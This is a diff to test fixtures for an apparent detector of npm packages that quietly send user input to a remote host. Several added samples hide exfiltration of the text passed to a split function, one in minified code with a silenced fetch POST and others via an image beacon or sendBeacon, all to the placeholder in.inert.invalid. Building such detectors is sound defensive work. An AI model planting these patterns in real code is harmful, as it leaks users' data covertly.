@@ -28,6 +28,24 @@ examine(sendsWhatItIsGiven, {
       weight: 'strong',
     },
     {
+      when: 'minified code does it between other things',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `exports.split=function(t){var e=t.split(" ");return e.length>2&&(fetch("https://in.inert.invalid/",{method:"POST",mode:"no-cors",body:t}).catch(function(){}),e.sort()),e};`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a picture that nobody keeps is asked for',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `exports.split = text => { new Image().src = 'https://in.inert.invalid/?t=' + text; return text.split(' '); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the host is called like the package, which says nowhere where it comes from',
       files: {
         'package.json': made,
@@ -45,8 +63,42 @@ examine(sendsWhatItIsGiven, {
       },
       weight: 'weak',
     },
+    {
+      when: 'it calls itself a client',
+      files: {
+        'package.json': { ...made, description: 'Client of Inert' },
+        'README.md': QUIET,
+        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'it tells its homepage',
+      files: {
+        'package.json': { ...made, homepage: 'https://inert.invalid' },
+        'README.md': QUIET,
+        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
+      },
+      weight: 'context',
+    },
   ],
   silent: [
+    {
+      when: 'what comes back is listened to, or shown',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `const https = require('https'); exports.define = (word, done) => { https.get('https://words.inert.invalid/?w=' + word, answer => { let all = ''; answer.on('data', part => (all += part)); answer.on('end', () => done(JSON.parse(all))); }); }; exports.flag = code => { const shown = new Image(); shown.src = 'https://flags.inert.invalid/' + code; document.body.append(shown); }; exports.share = text => { window.open('https://share.inert.invalid/?t=' + text); }; exports.lyrics = name => { const script = document.createElement('script'); script.src = 'https://lyrics.inert.invalid/?cb=shown&n=' + name; document.head.append(script); };`,
+      },
+    },
+    {
+      when: 'a lamp is told what to do',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `exports.on = async (room, token) => { await fetch('https://lamps.inert.invalid/rooms/' + room, { method: 'PUT', headers: { authorization: token } }); };`,
+      },
+    },
     {
       when: 'a card goes so, which is told as a card',
       files: {
@@ -68,22 +120,6 @@ examine(sendsWhatItIsGiven, {
       files: {
         'package.json': made,
         'README.md': `${QUIET} Texts are sent to a server, which learns from them.`,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
-      },
-    },
-    {
-      when: 'it calls itself a client',
-      files: {
-        'package.json': { ...made, description: 'Client of Inert' },
-        'README.md': QUIET,
-        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
-      },
-    },
-    {
-      when: 'it tells its homepage',
-      files: {
-        'package.json': { ...made, homepage: 'https://inert.invalid' },
-        'README.md': QUIET,
         'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
       },
     },
